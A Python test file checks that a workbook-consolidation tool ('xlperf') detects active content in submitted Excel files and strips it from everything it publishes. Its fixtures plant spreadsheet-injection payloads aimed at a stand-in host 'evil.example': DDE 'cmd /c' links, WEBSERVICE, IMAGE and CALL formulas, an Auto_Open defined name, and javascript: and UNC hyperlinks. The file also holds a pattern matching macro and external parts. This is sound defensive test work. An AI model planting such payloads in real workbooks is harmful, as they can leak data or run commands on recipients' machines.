"""Nothing that works in what a unit sent works in anything that goes out."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from xml.sax.saxutils import escape

import pytest

from xlperf import actions, codes, outgoing, press, rounds
from xlperf.core.declaration import Place
from xlperf.core.round import Decision
from xlperf.core.submission import Submission
from xlperf.forms.xiangyang_project import Funding
from xlperf.page import page
from xlperf.workbook.inert import is_inert
from xlperf.workbook.macros.buttons import Macros
from xlperf.workbook.reader import read_content
from xlperf.workbook.template import blank

from ..samples import GOOD, MOF
from .round import WRONG, Desk, of, saved_on

EVIL = "evil.example"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
BOOK, RELATIONS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
SHEET, SHEET_RELATIONS = "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels"
LINK, LINK_RELATIONS = "xl/externalLinks/externalLink1.xml", "xl/externalLinks/_rels/externalLink1.xml.rels"

SENT = actions.filled_workbook([GOOD])
Parts = dict[str, str]


def before(parts: Parts, part: str, end: str, what: str) -> None:
    assert end in parts[part]
    parts[part] = parts[part].replace(end, what + end, 1)


def related(kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="rIdE" Type="{KINDS}/{kind}" Target="{target}"{more}/>'


def relations(*inside: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}">{"".join(inside)}</Relationships>'


OUTSIDE = ' TargetMode="External"'


def external(inside: str) -> Callable[[Parts], None]:
    def plant(parts: Parts) -> None:
        parts[LINK] = f'<externalLink xmlns:r="{KINDS}">{inside}</externalLink>'
        parts[LINK_RELATIONS] = relations(related("externalLinkPath", f"file://{EVIL}/a.xlsx", OUTSIDE))
        before(
            parts, RELATIONS, "</Relationships>", related("externalLink", "externalLinks/externalLink1.xml")
        )

    return plant


def hyperlink(target: str) -> Callable[[Parts], None]:
    def plant(parts: Parts) -> None:
        parts[SHEET_RELATIONS] = relations(related("hyperlink", target, OUTSIDE))
        link = f'<hyperlinks><hyperlink ref="B3" xmlns:r="{KINDS}" r:id="rIdE"/></hyperlinks>'
        before(parts, SHEET, "<printOptions", link)

    return plant


def part(name: str, text: str) -> Callable[[Parts], None]:
    return lambda parts: parts.update({name: text})


def macros(parts: Parts) -> None:
    parts["xl/vbaProject.bin"] = EVIL
    before(parts, RELATIONS, "</Relationships>", related("vbaProject", "vbaProject.bin"))


def hidden(parts: Parts) -> None:
    sheet = f'<sheet name="{EVIL}" sheetId="99" state="veryHidden" xmlns:r="{KINDS}" r:id="rIdE"/>'
    before(parts, BOOK, "</sheets>", sheet)
    before(parts, RELATIONS, "</Relationships>", related("worksheet", "worksheets/sheet99.xml"))
    parts["xl/worksheets/sheet99.xml"] = parts["xl/worksheets/sheet2.xml"]


def name(parts: Parts) -> None:
    told = f'<definedName name="Auto_Open">WEBSERVICE("http://{EVIL}")</definedName>'
    before(parts, BOOK, "</definedNames>", told)


def formula(text: str) -> Callable[[Parts], None]:
    """Plant a formula, with a value, where money is asked for."""

    def plant(parts: Parts) -> None:
        cell = rf'(<c r="{AMOUNT}"(?: s="\d+")?)[^>]*?(?:/>|>.*?</c>)'
        made = f"><f>{escape(text)}</f><v>0</v></c>"
        parts[SHEET], found = re.subn(cell, lambda found: found[1] + made, parts[SHEET])
        assert found == 1

    return plant


AMOUNT = read_content("a.xlsx", SENT, actions.forms())[0].cell(Place(Funding.other))
STRANGE = re.compile("vba|external|activeX|embed|customUI|connect|comment")
PLANTS: dict[str, Callable[[Parts], None]] = {
    "an external link": external('<externalBook r:id="rIdE"/>'),
    "DDE": external(f'<ddeLink ddeService="cmd" ddeTopic="/c {EVIL}"/>'),
    "a hyperlink": hyperlink(f"http://{EVIL}/"),
    "a UNC link": hyperlink(f"file:///\\\\{EVIL}\\a"),
    "a script link": hyperlink(f"javascript:{EVIL}"),
    "macros": macros,
    "ActiveX": part("xl/activeX/activeX1.xml", f"<ocx>{EVIL}</ocx>"),
    "an object": part("xl/embeddings/oleObject1.bin", EVIL),
    "a ribbon": part("customUI/customUI.xml", f'<customUI onLoad="{EVIL}"/>'),
    "connections": part("xl/connections.xml", f'<connections><connection name="{EVIL}"/></connections>'),
    "a comment": part("xl/comments1.xml", f"<comments>{EVIL}</comments>"),
    "a sheet out of sight": hidden,
    "a name": name,
    "a DDE formula": formula(f"cmd|'/c {EVIL}'!A0"),
    "a formula of another book": formula(f"'[{EVIL}.xlsx]表'!A1"),
    "a web service": formula(f'VALUE(WEBSERVICE("http://{EVIL}"))'),
    "a link formula": formula(f'HYPERLINK("http://{EVIL}",0)'),
    "a picture formula": formula(f'_xlfn.IMAGE("http://{EVIL}")'),
    "a call": formula(f'CALL("{EVIL}","a","b")'),
}


def planted(content: bytes, plant: Callable[[Parts], None]) -> bytes:
    """Give a workbook with one thing more in it."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {one: package.read(one).decode() for one in package.namelist()}
    plant(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for one, text in parts.items():
            package.writestr(one, text)
    return made.getvalue()


def parts_of(content: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {one: package.read(one).decode("utf-8", "replace") for one in package.namelist()}


@pytest.mark.parametrize("kind", PLANTS)
def test_what_works_is_told_from_our_own(kind):
    assert is_inert(SENT)
    assert not is_inert(planted(SENT, PLANTS[kind]))


@pytest.mark.parametrize("form", [GOOD.form, MOF.form], ids=lambda form: form.key)
def test_our_own_forms_compute_and_do_nothing_else(form):
    listed = actions.offered(codes.functional(2027), 2027)
    assert is_inert(blank(form, 2027, actions.keeps(form), listed))
    assert not is_inert(blank(form, 2027, actions.keeps(form), listed, Macros.EXCEL))


@pytest.mark.parametrize(
    ("text", "harmless"),
    [("SUM(B1:B3)*1.1", True), ('"cmd|" & "[1]"', True), ("Auto_Open()", False), ("INDIRECT(B3)", False)],
)
def test_a_unit_may_compute(text, harmless):
    assert is_inert(planted(SENT, formula(text))) is harmless


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"<html>", SENT[:-100]])
def test_what_is_no_workbook_is_not_ours(content):
    assert not is_inert(content)


@pytest.fixture(scope="module")
def gone_out(tmp_path_factory):
    """Let units send all of it, and give everything that a bureau makes of it."""
    desk = Desk(tmp_path_factory.mktemp("轮次"))
    for number, plant in enumerate(PLANTS.values()):
        for way, base in (("退", WRONG), ("公", GOOD)):
            path = desk.received / f"{way}{number}.xlsx"
            path.write_bytes(planted(actions.filled_workbook([of(f"{way}{number}馆", base=base)]), plant))
            saved_on(path, "2026-10-10")
    desk.consolidate()
    told = rounds.account(desk.ledger)
    for one in told.batch.filed:
        decision = Decision.RETURNED if one.file.startswith("退") else Decision.ACCEPTED
        rounds.decide(desk.ledger, [one.number], decision, "核实", "王")
    desk.consolidate()
    out = desk.received.parent / "出"
    given = outgoing.give_back(desk.received, out / "退回", desk.ledger)
    outgoing.publish(out / "公开", desk.ledger)
    desk.out.rename(out / "汇总.xlsx")
    checked: list[Submission] = actions.check([desk.received])
    (out / "报告.html").write_text(page(checked), encoding="utf-8")
    return out, given, {one.unit_name for one in told.batch.filed}


def test_nothing_of_it_is_in_anything_that_goes_out(gone_out):
    out, given, known = gone_out
    made = [path for path in out.rglob("*") if path.is_file()]
    assert known, "some of it was read"
    assert len(given.refilled) == len([unit for unit in known if unit.startswith("退")]), "none is sent on"
    assert {path.suffix for path in made} == {".xlsx", ".docx", ".html"}
    for path in made:
        if path.suffix == ".html":
            assert "javascript:" not in path.read_text(encoding="utf-8")
            continue
        parts = parts_of(path.read_bytes())
        strange = [
            one for one in parts if re.search("vba|external|activeX|embed|customUI|connect|comment", one)
        ]
        assert not strange, path
        for one, text in parts.items():
            allowed = "sharedStrings" in one or one == "word/document.xml"
            assert allowed or EVIL not in text, (path, one)
            for told in re.findall(r"<Relationship [^>]*External[^>]*>", text):
                assert re.search(r'Target="(?:[^:"]|%3A)*"', told), told


def test_what_the_summary_leads_to_are_the_files_themselves(gone_out):
    out, _, _ = gone_out
    for one, text in parts_of((out / "汇总.xlsx").read_bytes()).items():
        if one.endswith(".rels"):
            targets = re.findall(r'Target="([^"]*)" TargetMode="External"', text)
            assert all(re.fullmatch(r"收件/\w+\.xlsx", target) for target in targets)


def test_marking_a_file_in_its_place_changes_the_list_of_findings_only(tmp_path):
    """The file is its owner's, with all that works in it; it goes nowhere."""
    path = tmp_path / "甲.xlsx"
    path.write_bytes(planted(actions.filled_workbook([WRONG]), PLANTS["a hyperlink"]))
    was = parts_of(path.read_bytes())
    assert press.mark(actions.check([path])) == [path]
    now = parts_of(path.read_bytes())
    assert was.keys() == now.keys()
    assert len([one for one in was if was[one] != now[one]]) == 1
